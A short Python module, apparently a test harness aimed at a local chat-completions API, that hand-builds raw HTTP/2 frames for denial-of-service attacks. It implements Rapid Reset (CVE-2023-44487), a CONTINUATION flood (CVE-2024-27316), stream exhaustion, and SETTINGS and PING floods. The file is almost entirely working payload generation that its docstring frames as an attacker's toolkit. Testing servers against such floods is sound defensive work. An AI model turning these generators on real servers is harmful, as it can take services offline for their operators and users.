"""Frames of HTTP/2 as an attacker writes them: by hand, with headers that nobody has to remember."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header of HPACK, without an index and without Huffman's code."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request(method, path, key):
    fields = {":method": method, ":scheme": "http", ":path": path, ":authority": "127.0.0.1", "x-api-key": key}
    return b"".join(literal(name, value) for name, value in fields.items())


def batches(frames, size=50):
    batch = []
    for one in frames:
        batch.append(one)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


def resets(count, key):
    """Requests that are taken back as soon as they are asked (CVE-2023-44487)."""
    head = request("POST", "/v1/chat/completions", key)
    return batches(frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                   for stream in range(1, 2 * count, 2))


def streams(count, key):
    """Requests whose bodies never come, more than may be open at once."""
    head = request("POST", "/v1/chat/completions", key)
    return batches(frame(HEADERS, END_HEADERS, stream, head) for stream in range(1, 2 * count, 2))


def continuations(count):
    """A head that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, request("GET", "/v1/models", "x"))
    block = b"".join(literal(f"x-{number}", "y" * 100) for number in range(100))
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, block)


def settings(count):
    """Settings that each have to be acknowledged; nobody reads the acknowledgements fast."""
    return batches((frame(SETTINGS, 0, 0, bytes([0, 3, 0, 0, 0, 100])) for _ in range(count)), 500)


def pings(count):
    return batches((frame(PING, 0, 0, number.to_bytes(8, "big")) for number in range(count)), 500)
